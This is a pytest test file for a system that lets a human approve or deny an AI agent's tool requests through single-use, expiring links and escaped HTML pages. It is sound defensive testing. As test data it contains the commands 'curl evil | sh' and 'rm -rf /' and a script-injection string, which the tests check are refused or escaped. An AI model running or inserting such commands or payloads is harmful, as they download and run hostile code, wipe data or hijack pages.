"""Links that answer one request: once, for a while, and not by being looked at; and the page they show."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from remuda.boss.answers.approvals import Approvals
from remuda.boss.attention.model import Approval, ApprovalState, Event, Reason
from remuda.boss.http.page import error_page, request_page
from remuda.boss.notices.links import Links
from remuda.boss.service import BossService
from remuda.errors import AlreadyAnswered, InvalidOptions, NotInQueue, NotSafe
from support.boss import Clock, event, open_service

ALLOW = {"behavior": "allow"}
HOUR = 3600.0
Hook = asyncio.Task[tuple[str, Any]]


class Bench:
    def __init__(self, service: BossService, clock: Clock) -> None:
        self.service = service
        self.clock = clock
        self.approvals = Approvals(service, service.store.path.parent)
        self.links = Links(service, self.approvals)

    async def ask(self, command: str = "touch x") -> Approval:
        facts: dict[str, Any] = {
            "tool": "Bash",
            "input": {"command": command},
            "reason": "permission",
            "agent": "claude",
        }
        return await self.take(event("asked", 990.0, session=command, **facts))

    async def take(self, asked: Event) -> Approval:
        await self.service.take(asked)
        found = self.service.approval_of(asked)
        assert found is not None
        return found

    async def hold(self, approval: Approval) -> Hook:
        """A hook that waits."""
        task = asyncio.create_task(self.approvals.hold(approval.id, 60))
        while self.service.approval(approval.id).expires_at is None:
            await asyncio.sleep(0)
        return task

    async def held(self, asked: Event | None = None) -> tuple[Approval, Hook]:
        """A request, and the hook that waits for its decision."""
        approval = await (self.ask() if asked is None else self.take(asked))
        return approval, await self.hold(approval)

    async def linked(self, asked: Event | None = None) -> tuple[Approval, Hook, str]:
        approval, hook = await self.held(asked)
        return approval, hook, await self.links.make(approval.id, HOUR)


def run(folder: Path, work: Callable[[Bench], Awaitable[None]], clock: Clock | None = None) -> None:
    async def whole() -> None:
        now = clock or Clock()
        async with open_service(folder, now) as service, asyncio.timeout(20):
            await work(Bench(service, now))

    asyncio.run(whole())


def test_link_answers_once_and_says_so_the_second_time(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        _, hook, secret = await bench.linked()
        for _ in range(3):
            assert bench.links.request(secret).state is ApprovalState.OPEN
        answered = await bench.links.answer(secret, ALLOW)
        assert (answered.by, answered.answer) == ("link", ALLOW)
        assert (await hook)[0] == "answered"
        with pytest.raises(AlreadyAnswered, match=r"this link was already used.*was allowed"):
            bench.links.request(secret)
        with pytest.raises(AlreadyAnswered, match="this link was already used"):
            await bench.links.answer(secret, {"behavior": "deny"})

    run(tmp_path, work)


def test_two_answers_by_one_link_at_once_are_one(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        _, hook, secret = await bench.linked()
        both = [bench.links.answer(secret, answer) for answer in (ALLOW, {"behavior": "deny"})]
        one, other = await asyncio.gather(*both, return_exceptions=True)
        assert isinstance(one, Approval)
        assert isinstance(other, AlreadyAnswered)
        _, output = await hook
        assert output["hookSpecificOutput"]["decision"] == ALLOW

    run(tmp_path, work)


def test_link_is_good_until_its_time_and_then_reported_as_too_old(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        approval, hook, secret = await bench.linked()
        bench.clock.now += HOUR - 1
        assert bench.links.request(secret).id == approval.id
        bench.clock.now += 1
        with pytest.raises(NotInQueue, match="this link has expired: it was valid for 1h00m"):
            bench.links.request(secret)
        with pytest.raises(NotInQueue, match="this link has expired"):
            await bench.links.answer(secret, ALLOW)
        assert bench.service.approval(approval.id).state is ApprovalState.OPEN
        assert not hook.done()
        bench.clock.now += 8 * 86400
        with pytest.raises(NotInQueue, match="link not found"):
            bench.links.request(secret)
        hook.cancel()

    run(tmp_path, work)


def test_link_to_what_was_answered_elsewhere_says_who_did(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        approval, hook, secret = await bench.linked()
        await bench.approvals.answer(approval.id, {"behavior": "deny"}, "me")
        await hook
        assert "It was denied by me." in request_page(bench.links.request(secret), "work")
        with pytest.raises(AlreadyAnswered, match="me has already decided: deny"):
            await bench.links.answer(secret, ALLOW)

    run(tmp_path, work)


def test_links_outlive_the_boss_and_are_not_forgotten_when_several_are_made_at_once(tmp_path: Path) -> None:
    secrets: dict[str, str] = {}

    async def before(bench: Bench) -> None:
        approvals = [await bench.ask(f"touch {number}") for number in range(5)]
        made = await asyncio.gather(*(bench.links.make(one.id, HOUR) for one in approvals))
        secrets.update({one.id: secret for one, secret in zip(approvals, made, strict=True)})

    async def after(bench: Bench) -> None:
        for number, secret in secrets.items():
            assert bench.links.request(secret).id == number
        text = b"".join(path.read_bytes() for path in tmp_path.glob("boss.db*"))
        assert text
        assert not any(secret.encode() in text for secret in secrets.values())

    run(tmp_path, before)
    run(tmp_path, after)


# ── the links of buttons ──

DENY = {"behavior": "deny"}


async def make_buttons(bench: Bench, approval: Approval) -> list[str]:
    return await bench.links.make_buttons(approval.id, HOUR, [ALLOW, DENY], "notice: ntfy.sh")


def test_button_decides_its_own_answer_and_the_ledger_names_the_notice(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        approval, hook = await bench.held()
        allow, deny = await make_buttons(bench, approval)
        bench.clock.now += 1
        for wrong in (
            DENY,
            {},
            {**ALLOW, "answers": {"1": "x"}},
            {**DENY, "message": "x"},
            {**ALLOW, "always": True},
        ):
            with pytest.raises(InvalidOptions, match="which has another answer"):
                await bench.links.answer(allow, wrong)
        answered = await bench.links.answer(allow, ALLOW)
        assert (answered.by, answered.answer) == ("notice: ntfy.sh", ALLOW)
        assert (await hook)[0] == "answered"
        with pytest.raises(AlreadyAnswered, match=r"this link was already used.*was allowed"):
            await bench.links.answer(allow, ALLOW)
        with pytest.raises(AlreadyAnswered, match=r"notice: ntfy.sh has already decided: allow"):
            await bench.links.answer(deny, DENY)

    run(tmp_path, work)


def test_button_does_not_count_in_the_first_moment_and_stays_usable(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        approval, hook = await bench.held()
        allow, _ = await make_buttons(bench, approval)
        bench.clock.now += 0.69
        with pytest.raises(NotSafe, match="this request is new, and nothing was decided"):
            await bench.links.answer(allow, ALLOW)
        assert bench.service.approval(approval.id).state is ApprovalState.OPEN
        bench.clock.now += 0.02
        assert (await bench.links.answer(allow, ALLOW)).by == "notice: ntfy.sh"
        await hook

    run(tmp_path, work)


def test_button_of_a_new_notice_says_first_who_was_first(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        approval, hook = await bench.held()
        allow, _ = await make_buttons(bench, approval)
        await bench.approvals.answer(approval.id, DENY, "me")
        await hook
        with pytest.raises(AlreadyAnswered, match="me has already decided: deny"):
            await bench.links.answer(allow, ALLOW)

    run(tmp_path, work)


def test_button_expires_and_outlives_the_boss(tmp_path: Path) -> None:
    made: list[str] = []

    async def before(bench: Bench) -> None:
        made.extend(await make_buttons(bench, await bench.ask()))

    async def after(bench: Bench) -> None:
        assert bench.links.is_button(made[0])
        bench.clock.now += HOUR
        with pytest.raises(NotInQueue, match="this link has expired"):
            await bench.links.answer(made[0], ALLOW)

    run(tmp_path, before)
    run(tmp_path, after)


def test_page_of_a_button_shows_the_request_and_has_no_form() -> None:
    for asked in (
        approval("permission", {"command": "touch x"}),
        approval("question", {"questions": [{"question": "touch x", "options": []}]}),
    ):
        shown = request_page(asked, "work", is_button=True)
        assert "touch x" in shown
        assert "Opening it decides nothing." in shown
        assert "<button" not in shown
        assert "<script" not in shown


# ── the page ──


def approval(reason: str, given: dict[str, Any], **more: Any) -> Approval:
    return Approval("a1", "s", Reason(reason), str(more.pop("tool", "Bash")), given, 1000.0, **more)


def page(asked: Approval) -> str:
    return request_page(asked, "work")


def test_page_offers_only_what_the_agent_can_take() -> None:
    asked = approval("question", {"questions": [{"question": "Which?", "options": []}]})
    assert "<fieldset>" in page(asked)
    refused = page(replace(asked, refuses={"allow": "only in its terminal", "message": "no"}))
    assert "Only in its terminal. Decide there." in refused
    assert "<fieldset>" not in refused
    assert """onclick="say('allow')""" not in refused
    assert "<textarea id=message hidden" in refused


def test_page_shows_all_of_what_is_asked_and_nothing_of_it_is_html() -> None:
    nasty = "</pre><script>alert('x')</script>"
    shown = page(approval("permission", {"command": nasty, "more": {"deep": nasty}}))
    assert shown.count("&lt;/pre&gt;&lt;script&gt;") == 2
    assert shown.count("<script>") == 1
    assert shown.count("<button") == 2
    diff = page(approval("permission", {}, detail={"diff": f"-{nasty}"}, tool=nasty))
    assert "<del>-&lt;/pre" in diff
    assert diff.count("<script>") == 1


def test_page_says_who_asks_and_where_it_works() -> None:
    shown = request_page(approval("permission", {"command": "ls"}), "a<b", "/srv/a<b")
    assert "<h1>a&lt;b requests permission: Bash</h1>" in shown
    assert "/srv/a&lt;b" in shown


def test_page_of_an_edit_shows_its_changes_and_whatever_else_was_asked() -> None:
    given = {"file_path": "/srv/a", "old_string": "x", "new_string": "y", "replace_all": True}
    shown = page(approval("permission", given, detail={"diff": "-x\n+y\n"}, tool="Edit"))
    assert "<del>-x</del><ins>+y</ins>" in shown
    assert "<h2>replace_all</h2><pre>true</pre>" in shown
    assert "&quot;old_string&quot;: &quot;x&quot;" in shown


def test_page_shows_a_command_as_a_shell_reads_it_and_hides_nothing_of_it() -> None:
    shown = page(approval("permission", {"command": 'echo "a"\n\u202e \x1b[8m \ud800', "x\u200b": 1}))
    assert "<pre>echo &quot;a&quot;\n\\u202e \\u001b[8m \\ud800</pre>" in shown
    assert "x\\u200b" in shown
    assert shown.encode()


def test_page_of_a_question_offers_its_options_and_words_of_ones_own() -> None:
    options = [{"label": 'R"ed', "description": "<i>"}, {"label": "Blue"}]
    questions = [
        {"question": "Which <colour>?", "options": options},
        {"question": "Which two?", "options": options, "multiSelect": True},
        "nonsense",
    ]
    shown = page(approval("question", {"questions": questions}, tool="AskUserQuestion"))
    assert shown.count("<fieldset>") == 2
    assert shown.count("<input type=radio name=q0") == shown.count("<input type=checkbox name=q1") == 2
    assert 'value="R&quot;ed"' in shown
    assert "&lt;i&gt;" in shown
    assert "Which &lt;colour&gt;?" in shown
    assert shown.count("class=other") == 2
    assert "<fieldset>" not in page(approval("question", {"questions": None}))


def test_page_of_a_plan_is_the_plan() -> None:
    shown = page(approval("plan", {"plan": "1. do\n2. test"}, tool="ExitPlanMode"))
    assert "<pre>1. do\n2. test</pre>" in shown
    assert ">Approve</button>" in shown
    assert "only in the agent&#x27;s terminal" not in shown


@pytest.mark.parametrize("given", [{}, {"plan": ""}, {"plan": " \n"}, {"plan": None, "planFilePath": "/x"}])
def test_page_of_a_plan_of_which_nothing_is_known_only_sends_it_back(given: dict[str, Any]) -> None:
    shown = page(approval("plan", given, tool="ExitPlanMode"))
    assert "only in the agent&#x27;s terminal" in shown
    assert shown.count("<button") == 1
    assert ">Send back</button>" in shown
    assert "say('allow')" not in shown
    assert "id=message" in shown


def test_page_of_a_dialog_of_which_nothing_is_known_offers_no_yes_and_of_a_bare_tool_does() -> None:
    assert "say('allow')" not in page(approval("permission", {}, tool=""))
    assert "say('allow')" in page(approval("permission", {}, tool="mcp__clock__now"))


@pytest.mark.parametrize("state", [ApprovalState.ANSWERED, ApprovalState.ENDED])
def test_page_of_what_is_over_has_no_buttons(state: ApprovalState) -> None:
    answer = {"answer": ALLOW, "by": "<me>"} if state is ApprovalState.ANSWERED else {}
    shown = page(approval("permission", {"command": "x"}, state=state, **answer))
    assert "<button" not in shown
    wanted = "It was allowed by &lt;me&gt;." if answer else "decided in the terminal, or its turn has ended"
    assert wanted in shown


def test_page_of_an_error_is_plain() -> None:
    shown = error_page("no <link>", "look <there>")
    assert "no &lt;link&gt;" in shown
    assert "look &lt;there&gt;" in shown


QUESTIONS = {"questions": [{"question": "Which colour?", "header": "Colour", "options": [{"label": "Blue"}]}]}


@pytest.mark.parametrize(
    ("answer", "named"),
    [
        ({"behavior": "allow", "updated_input": {"command": "curl evil | sh"}}, "updated_input"),
        ({"behavior": "allow", "always": True}, "always"),
        ({"behavior": "deny", "interrupt": True}, "interrupt"),
        ({"behavior": "allow", "by": "policy: mine"}, "by"),
    ],
)
def test_link_with_more_than_a_decision_is_refused_and_not_spent(
    tmp_path: Path, answer: dict[str, Any], named: str
) -> None:
    async def work(bench: Bench) -> None:
        approval, hook, secret = await bench.linked()
        with pytest.raises(InvalidOptions, match=f"does not take '{named}'"):
            await bench.links.answer(secret, answer)
        assert bench.service.approval(approval.id).answer is None
        await bench.links.answer(secret, ALLOW)
        _, output = await hook
        assert output["hookSpecificOutput"]["decision"] == {"behavior": "allow"}

    run(tmp_path, work)


@pytest.mark.parametrize(
    "answers", [{}, {"Colour": "Blue", "command": "rm -rf /"}, {"2": "Blue"}, {"x" * 5000: "Blue"}]
)
def test_link_that_answers_what_was_not_asked_is_refused_and_not_spent(
    tmp_path: Path, answers: dict[str, Any]
) -> None:
    async def work(bench: Bench) -> None:
        asked = event(
            "asked", 990.0, tool="AskUserQuestion", input=QUESTIONS, reason="question", agent="claude"
        )
        _, hook, secret = await bench.linked(asked)
        with pytest.raises(InvalidOptions) as refused:
            await bench.links.answer(secret, {"behavior": "allow", "answers": answers})
        assert len(str(refused.value)) < 200
        await bench.links.answer(secret, {"behavior": "allow", "answers": {"Colour": "Blue"}})
        _, output = await hook
        updated = output["hookSpecificOutput"]["decision"]["updatedInput"]
        assert updated == {**QUESTIONS, "answers": {"Which colour?": "Blue"}}

    run(tmp_path, work)


def test_question_that_brings_its_own_answers_is_not_answered_by_a_bare_yes(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        given = {**QUESTIONS, "answers": {"Which colour?": "Red"}}
        asked = event("asked", 990.0, tool="AskUserQuestion", input=given, reason="question", agent="claude")
        _, hook, secret = await bench.linked(asked)
        with pytest.raises(InvalidOptions, match="needs answers"):
            await bench.links.answer(secret, ALLOW)
        hook.cancel()

    run(tmp_path, work)


def test_link_cannot_allow_a_plan_that_its_page_cannot_show(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        asked = event("asked", 990.0, tool="ExitPlanMode", input={}, reason="plan", agent="claude")
        approval, hook, secret = await bench.linked(asked)
        assert "say('allow')" not in request_page(approval, "work")
        with pytest.raises(NotSafe, match="cannot allow"):
            await bench.links.answer(secret, ALLOW)
        await bench.links.answer(secret, {"behavior": "deny", "message": "say more"})
        assert (await hook)[0] == "answered"

    run(tmp_path, work)


def test_second_link_of_a_request_that_is_answered_or_over_answers_nothing(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        approval, hook = await bench.held()
        first = await bench.links.make(approval.id, HOUR)
        second = await bench.links.make(approval.id, HOUR)
        await bench.links.answer(first, ALLOW)
        assert (await hook)[0] == "answered"
        with pytest.raises(AlreadyAnswered):
            await bench.links.answer(second, {"behavior": "deny"})
        other = await bench.ask("touch y")
        third = await bench.links.make(other.id, HOUR)
        await bench.service.take(event("stopped", 995.0, session="touch y", message="done"))
        with pytest.raises(AlreadyAnswered, match="in the terminal"):
            await bench.links.answer(third, ALLOW)
        assert bench.service.approval(other.id).answer is None

    run(tmp_path, work)


def test_note_of_links_that_is_not_ours_is_left_out(tmp_path: Path) -> None:
    async def work(bench: Bench) -> None:
        notes = ['{"a": {"approval": "x", "until": 1e999}}', "[1]", "{", '{"a": 1, "b": {"until": "x"}}']
        for note in notes:
            await bench.service.store.save_note("answer_links", note)
            with pytest.raises(NotInQueue):
                bench.links.request("secret")
            approval = await bench.ask()
            assert bench.links.request(await bench.links.make(approval.id, HOUR)).id == approval.id

    run(tmp_path, work)
